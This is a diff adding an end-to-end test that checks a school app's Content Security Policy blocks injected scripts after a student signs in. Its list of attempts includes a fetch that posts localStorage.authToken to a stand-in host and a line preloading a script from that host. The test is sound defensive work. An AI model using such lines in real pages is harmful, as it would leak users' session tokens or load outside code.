@@ -1,0 +1,34 @@
+import { aStudent, password } from '#test/builders.ts'
+import { journey } from './stage.ts'
+import { seesHeading, signInStudent } from './steps.ts'
+
+/** What a hostile text could try once it stood in a page, and the rule of the policy that forbids it. */
+const attempts: [rule: string, script: string][] = [
+  ['require-trusted-types-for', "document.body.insertAdjacentHTML('beforeend', '<img src=/x>')"],
+  [
+    'script-src-elem',
+    "document.head.append(Object.assign(document.createElement('link'), { rel: 'preload', as: 'script', href: 'https://elsewhere.example/x.js' }))",
+  ],
+  ['style-src-elem', "document.head.append(Object.assign(document.createElement('style'), { textContent: '* {}' }))"],
+  ['img-src', "document.body.append(Object.assign(new Image(), { src: 'https://elsewhere.example/maya.png' }))"],
+  ['connect-src', "fetch('https://elsewhere.example/', { method: 'POST', body: localStorage.authToken })"],
+  ['trusted-types', "trustedTypes.createPolicy('mine', { createHTML: (html) => html })"],
+]
+
+// Every journey is watched so: this one shows that the watch sees what it is there for.
+journey('T-XS2 what a page must not do it cannot do, and the watch of every journey notices', async (stage) => {
+  const { email } = await aStudent(stage.world, stage.school, 'Maya')
+  const phone = await stage.phone()
+  await signInStudent(phone, email, password)
+  await seesHeading(phone, "Maya's Dashboard")
+  for (const [rule, script] of attempts) {
+    stage.expectTrouble(new RegExp(`securitypolicyviolation ${rule} `))
+    const seen = phone.waitForEvent('console', (line) => line.text().startsWith(`securitypolicyviolation ${rule} `))
+    // As a script of the page would: what it throws is its own affair.
+    await phone.evaluate(`Promise.resolve().then(() => ${script}).then(() => undefined, () => undefined)`)
+    await seen
+  }
+  // What the browser itself says of it, beside our own line.
+  stage.expectTrouble(/console: .*(Content Security Policy|TrustedHTML|TrustedScript|Trusted Type)/)
+  stage.expectTrouble(/console: .*elsewhere\.example/)
+})
